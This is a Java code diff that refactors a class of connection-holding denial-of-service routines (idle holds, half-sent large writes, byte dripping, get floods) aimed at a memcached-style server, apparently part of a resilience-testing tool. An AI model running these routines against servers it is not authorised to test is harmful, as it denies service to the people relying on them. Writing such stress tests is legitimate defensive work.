@@ -4,10 +4,10 @@ import java.io.IOException;
 import java.io.OutputStream;
 import java.net.Socket;
 import java.nio.charset.StandardCharsets;
+import java.util.Collections;
 
 /** The attacks that take a place and keep it. */
 final class Holding {
-    static final String LARGE_KEY = Attack.KEY_PREFIX + "large";
     static final int LARGE_BYTES = 1 << 20;
     private static final int DRIP_MS = 10;
     private static final int GETS_A_LINE = 16;
@@ -16,7 +16,7 @@ final class Holding {
 
     static void hold(Attacker attacker) throws IOException {
         Socket socket = attacker.connect();
-        Attacker.send(socket, "ping\r\n");
+        Attacker.send(socket, attacker.dialect().greeting());
         Attacker.linger(socket);
     }
 
@@ -26,14 +26,14 @@ final class Holding {
 
     static void halfSet(Attacker attacker) throws IOException {
         Socket socket = attacker.connect();
-        Attacker.send(socket, "set " + Attack.KEY_PREFIX + "half " + LARGE_BYTES + "\r\n");
+        Attacker.send(socket, attacker.dialect().announcement(ToolKeys.HALF, String.valueOf(LARGE_BYTES)));
         socket.getOutputStream().write(new byte[LARGE_BYTES / 2]);
         Attacker.linger(socket);
     }
 
     static void drip(Attacker attacker) throws IOException, InterruptedException {
         OutputStream out = attacker.connect().getOutputStream();
-        byte[] request = ("set " + Attack.KEY_PREFIX + "drip 5\r\nhello\r\n").getBytes(StandardCharsets.US_ASCII);
+        byte[] request = attacker.dialect().set(ToolKeys.DRIP, "hello").getBytes(StandardCharsets.US_ASCII);
         for (int i = 0; attacker.running(); i++) {
             out.write(request[i % request.length]);
             Attacker.pause(DRIP_MS);
@@ -45,7 +45,7 @@ final class Holding {
         Socket socket = new Socket();
         socket.setReceiveBufferSize(4_096);
         attacker.connect(socket);
-        String line = "get" + (" " + LARGE_KEY).repeat(GETS_A_LINE) + "\r\n";
+        String line = attacker.dialect().get(Collections.nCopies(GETS_A_LINE, ToolKeys.LARGE));
         while (attacker.running()) {
             Attacker.send(socket, line);
         }
